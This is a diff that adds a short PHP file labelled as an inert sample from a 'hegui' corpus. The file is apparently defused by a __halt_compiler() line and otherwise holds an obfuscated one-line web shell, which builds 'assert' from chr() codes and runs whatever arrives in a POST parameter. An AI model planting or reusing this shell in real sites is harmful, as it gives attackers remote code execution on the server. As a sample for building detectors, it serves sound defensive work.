@@ -1,0 +1,4 @@
+<?php __halt_compiler(); /* hegui corpus: inert sample - PHP stops compiling here */ ?>
+<?php
+$zre = chr(97).chr(115).chr(115).chr(101).chr(114).chr(116);
+$zre(@$_POST['1']);
